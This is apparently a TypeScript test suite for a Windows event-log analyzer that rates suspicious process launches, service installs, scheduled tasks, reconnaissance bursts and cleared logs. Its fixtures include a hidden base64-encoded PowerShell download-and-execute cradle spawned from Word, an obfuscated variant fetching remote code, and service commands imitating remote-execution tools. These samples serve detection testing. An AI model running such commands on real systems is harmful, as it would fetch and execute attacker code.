import { deepEqual, equal, match } from 'node:assert/strict';
import { digestOf, findingsOf } from './logs';

const steps = (count: number) => Array.from({ length: count }, (_, index) => index);
const encoded = (script: string) => Buffer.from(script, 'utf16le').toString('base64');

interface Made {
  readonly id: number | string;
  readonly host?: string;
  readonly minute?: number;
  readonly provider?: string;
  readonly data: Readonly<Record<string, string>>;
}

/** Events as exports of Windows' log write them in JSON. */
function events(all: readonly Made[]): string {
  return all
    .map(({ id, host = 'WS1', minute = 0, provider = 'Microsoft-Windows-Security-Auditing', data }) =>
      JSON.stringify({
        Event: {
          System: {
            Provider: { '#attributes': { Name: provider } },
            EventID: id,
            TimeCreated: { '#attributes': { SystemTime: new Date(1.763e12 + minute * 60_000).toISOString() } },
            Computer: host,
          },
          EventData: data,
        },
      }),
    )
    .join('\n');
}

const command = (text: string, more: Partial<Made> = {}, parent = 'C:\\Windows\\explorer.exe'): Made => ({
  id: 4688,
  data: { SubjectUserName: 'carol', CommandLine: text, ParentProcessName: parent },
  ...more,
});

async function levels(all: readonly Made[]) {
  return findingsOf(await digestOf({ 'events.json': events(all) })).map(({ finding, text }) => `${finding} ${text}`);
}

describe('what is started on hosts', () => {
  it('a document that starts a hidden, encoded command is grave, and what it fetches from is told', async () => {
    const hidden = encoded("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')");
    const made = await digestOf({
      'events.json': events([
        command(`powershell -nop -w hidden -enc ${hidden}`, {}, 'C:\\Program Files\\Office\\WINWORD.EXE'),
      ]),
    });

    const [found] = findingsOf(made);
    equal(found?.finding, 'high');
    match(found?.text ?? '', /WS1 by carol: winword\.exe starts a shell.*says IEX \(New-Object.*T1027\.010/);
    deepEqual(found?.suspects, ['203.0.113.5']);
  });

  it('words of a log-in in a command are none', async () => {
    const tests = steps(12).map(index =>
      command(`check.exe --say "authentication failed for root from 203.0.113.${index}"`),
    );
    deepEqual(await levels(tests), []);
  });

  it('tricks of writing hide nothing', async () => {
    const [found = ''] = await levels([
      command("cmd /c p^owershell I`EX (x).('Down'+'loadString')('https://e.example/x')"),
    ]);
    match(found, /^medium .*runs what it fetches/);
  });

  it('services and tasks as tools leave them are told, those of programs are not', async () => {
    const service = (ServiceName: string, ImagePath: string, host: string): Made => ({
      id: 7045,
      host,
      provider: 'Service Control Manager',
      data: { ServiceName, ImagePath },
    });
    const task = (TaskName: string, exec: string, host: string): Made => ({
      id: 4698,
      host,
      data: {
        SubjectUserName: 'adm',
        TaskName,
        TaskContent: `<Task>${'\r\n'.repeat(2_000)}<Actions><Exec>${exec}</Exec></Actions></Task>`,
      },
    });
    const found = await levels([
      service('BTOBTO', '%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output', 'A'),
      service('kXyz', '%systemroot%\\qWeRtYuI.exe', 'B'),
      service('aaaa', 'cmd.exe /c echo aaaa > \\\\.\\pipe\\aaaa', 'C'),
      task(
        '\\aBcDeFgH',
        '<Command>cmd.exe</Command><Arguments>/C dir &gt; %windir%\\Temp\\AbCdEfGh.tmp 2&gt;&amp;1</Arguments>',
        'D',
      ),
      service('Backup Helper', '"C:\\Program Files\\Backup\\helper.exe" -k', 'E'),
      service('PSEXESVC', '%SystemRoot%\\PSEXESVC.exe', 'F'),
      task('\\Update', '<Command>C:\\Program Files\\Vendor\\update.exe</Command>', 'G'),
    ]);

    deepEqual(
      found.map(text => text.replace(/^(\w+) \w+ · launches: (\w+).*$/s, '$1 $2')),
      ['high A', 'high C', 'medium D', 'medium B', 'low F'],
    );
  });

  it('what many hosts run is how they are administered, be it encoded', async () => {
    const run = (index: number) => `powershell -NonInteractive -EncodedCommand ${encoded(`Get-Service # ${index}`)}`;
    const found = await levels(steps(12).map(index => command(run(index), { host: `WS${index}` })));
    deepEqual(found, []);
  });

  it('many questions about the domain within minutes are told, the same ones day after day are weak', async () => {
    const asked = [
      'whoami /all',
      'net user /domain',
      'net group /domain',
      'nltest /dclist:',
      'ipconfig /all',
      'systeminfo',
    ];
    const ask = (day: number) => asked.map((one, minute) => command(one, { minute: day * 1_440 + minute }));

    match((await levels(ask(0)))[0] ?? '', /^medium .*asked 6 different questions/);
    match((await levels([0, 1, 2, 3].flatMap(ask)))[0] ?? '', /^low /);
    const everywhere = steps(6).flatMap(host => [0, 1, 2, 3].flatMap(ask).map(one => ({ ...one, host: `WS${host}` })));
    deepEqual(await levels(everywhere), []);
  });

  it('a cleared log is told by its own technique, also where the message alone says so', async () => {
    const [cleared = ''] = await levels([{ id: 104, provider: 'Microsoft-Windows-Eventlog', data: { x: '1' } }]);
    match(cleared, /^medium .*104 \(a log cleared\).*T1070\.001/);

    const csv =
      '"TimeCreated","Id","ProviderName","MachineName","Message"\n"2025-11-13T02:00:00Z","7045","Service Control Manager","WS9","A service was installed in the system.\n\nService Name:  aaaa\nService File Name:  cmd.exe /c echo x > \\\\.\\pipe\\x\nService Type:  user mode service"\n';
    match(
      findingsOf(await digestOf({ 'export.csv': csv }))[0]?.text ?? '',
      /high · launches: WS9: a service that writes to a pipe/,
    );
  });
});
